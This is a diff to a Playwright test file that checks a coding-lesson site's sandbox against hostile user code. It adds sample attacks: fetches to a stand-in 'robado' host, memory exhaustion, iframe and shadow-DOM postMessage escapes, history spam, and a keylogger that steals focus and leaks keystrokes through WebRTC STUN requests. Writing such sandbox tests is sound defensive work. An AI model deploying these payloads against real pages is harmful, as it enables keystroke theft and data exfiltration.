@@ -1,10 +1,11 @@
+import { createSocket } from "node:dgram";
 import type { Page } from "@playwright/test";
 import { openPage, signIn } from "../accounts";
 import { expect, test } from "../fixtures";
 import { block, openLesson, run } from "../exercises";
 
 // What hostile code tries is refused, and the browser says so.
-test.use({ expectedErrors: [/Content Security Policy|sandbox|not allowed|robado|Se detuvo/i] });
+test.use({ expectedErrors: [/Content.Security.Policy|sandbox|not allowed|robado|Se detuvo/i] });
 
 test("what a member writes is on their other device; of two texts they say which", async ({ page, browser }) => {
   // Somebody whose code no other journey writes.
@@ -43,7 +44,7 @@ test("SQL runs on a Postgres of the browser, with the tables of the block", asyn
   await openLesson(page);
   await page.getByRole("button", { name: "Ejecutar" }).nth(2).click();
   const desk = block(page, "SQL");
-  await expect(desk.getByRole("cell", { name: "Lámpara" })).toBeVisible({ timeout: 60_000 });
+  await expect(desk.getByRole("cell", { name: "Lámpara" })).toBeVisible({ timeout: 180_000 });
   await expect(desk.getByText("No superada: Los productos por su precio")).toBeVisible();
   await run(page, "SQL", "select nombre, precio from productos order by precio desc");
   await expect(desk.getByText("Superada: Los productos por su precio")).toBeVisible();
@@ -62,8 +63,8 @@ test("Python comes once it is asked for, runs and is ended", async ({ page }) =>
   expect(asked.filter((url) => url.includes(".gzip"))).toEqual([]);
   await page.getByRole("button", { name: "Ejecutar" }).nth(3).click();
   const desk = block(page, "Python");
-  await expect(desk.getByText(/^(?:Cargando Python \(6 MB\)|Preparando Python)…$/)).toBeVisible({ timeout: 60_000 });
-  await expect(desk.getByText("no los une")).toBeVisible({ timeout: 90_000 });
+  await expect(desk.getByText(/^(?:Cargando Python \(6 MB\)|Preparando Python)…$/)).toBeVisible({ timeout: 180_000 });
+  await expect(desk.getByText("no los une")).toBeVisible({ timeout: 180_000 });
   const output = desk.getByLabel("Salida");
   await run(page, "Python", "def suma(a, b):\n    print([a, b])\n    return a + b");
   await expect(desk.getByText("Superada: La suma de 2 y 3 es 5")).toBeVisible();
@@ -89,6 +90,7 @@ test("Python comes once it is asked for, runs and is ended", async ({ page }) =>
 });
 
 const attempts = `<script>
+const inFrame = (add) => new Promise((yes, no) => { addEventListener("message", yes); add(document.createElement("iframe")); setTimeout(no, 700); });
 const tries = {
   fetch: () => fetch("/api/health/live?robado"),
   otro: () => fetch("https://example.com/robado", { mode: "no-cors" }),
@@ -107,6 +109,19 @@ const tries = {
   popup: () => { if (!window.open("https://example.com/robado")) throw 0; },
   worker: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob([""]))); w.onerror = no; setTimeout(yes, 500); }),
   memoria: () => new Uint8Array(2 ** 30),
+  texto: () => "x".repeat(2 ** 28),
+  lista: () => new Array(2 ** 26).fill(0),
+  rtc: () => new RTCPeerConnection(),
+  marco: () => inFrame((child) => { child.srcdoc = "<script>parent.postMessage('hijo', '*')</" + "script>"; document.body.append(child); }),
+  html: () => inFrame(() => { document.body.insertAdjacentHTML("beforeend", '<div><iframe srcdoc="<script>parent.postMessage(1, String.fromCharCode(42))</' + 'script>"></iframe></div>'); }),
+  sombra: () => inFrame((child) => {
+    child.srcdoc = "<script>top.postMessage('hijo', '*');parent.postMessage('hijo', '*')</" + "script>";
+    const host = document.createElement("div");
+    document.body.append(host);
+    host.attachShadow({ mode: "closed" }).append(child);
+  }),
+  vacio: () => { const child = document.createElement("iframe"); document.body.append(child); new (window[0].RTCPeerConnection)(); },
+  plantilla: () => document.body.setHTMLUnsafe("<p></p>"),
 };
 (async () => {
   for (const [name, attempt] of Object.entries(tries)) {
@@ -130,6 +145,15 @@ test("hostile code reaches neither the page nor the session nor another origin, 
   await expect(output).toContainText("fin null");
   expect(await output.innerText()).not.toContain("SE PUDO");
   expect(asked.filter((url) => url.includes("robado"))).toEqual([]);
+
+  const before = await page.evaluate(() => history.length);
+  await run(
+    page,
+    "HTML",
+    "<script>for (let i = 0; i < 9; i++) history.pushState(i, ''); console.log('listo')</script>",
+  );
+  await expect(output).toContainText("listo");
+  expect(await page.evaluate(() => history.length)).toBe(before);
 
   await run(page, "HTML", "<script>while (true) {}</script>");
   await expect(output).toContainText("Se detuvo: tardó más de 5 segundos");
@@ -159,3 +183,52 @@ test("hostile code reaches neither the page nor the session nor another origin, 
   expect(page.context().pages()).toHaveLength(1);
   expect((await page.request.get("/api/auth/session")).status()).toBe(200);
 });
+
+test("what is typed beside code that takes the focus stays on the page, and a page that says unasked that it lives is ended", async ({
+  page,
+}) => {
+  const heard: Buffer[] = [];
+  const udp = createSocket("udp4").on("message", (packet) => heard.push(packet));
+  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
+  await openLesson(page);
+  await page.getByRole("button", { name: "Editar" }).first().click();
+  const html = block(page, "HTML");
+  const output = html.getByLabel("Salida");
+  await run(page, "HTML", thief(udp.address().port));
+  const area = page.getByLabel("Tu código HTML");
+  await area.click();
+  await area.press("Control+A");
+  await page.keyboard.type("mi contraseña secreta, letra a letra", { delay: 40 });
+  await expect(output).toContainText("se llevó el teclado");
+  await area.press("Control+A");
+  await page.keyboard.type("y otra");
+  await expect(area).toHaveValue("y otra");
+  expect(await output.innerText()).not.toContain("tecla");
+  expect(heard).toEqual([]);
+  udp.close();
+
+  // A first field may have the focus once, and whoever presses into it writes there.
+  await run(page, "HTML", "<input autofocus><script>document.querySelector('input').focus()</script>");
+  const own = html.frameLocator("iframe").getByRole("textbox");
+  await own.click();
+  await page.keyboard.type("hola");
+  await expect(own).toHaveValue("hola");
+
+  const lively = "parent.postMessage({ type: 'alive' }, '*')";
+  await run(page, "HTML", `<script>${lively};const end = Date.now() + 9e4; while (Date.now() < end);</script>`);
+  await expect(output).toContainText("Se detuvo: tardó más de 5 segundos");
+});
+
+/** Takes the focus again and again, and tells what is typed then: here, and to an address of ours. */
+const thief = (port: number) => `<input id="i"><script>
+addEventListener("keydown", ({ key }) => {
+  console.log("tecla", key);
+  try { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }).createDataChannel(key); } catch {}
+});
+setInterval(() => i.focus(), 30);
+try {
+  const link = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] });
+  link.createDataChannel("x");
+  link.createOffer().then((offer) => link.setLocalDescription(offer));
+} catch {}
+</script>`;
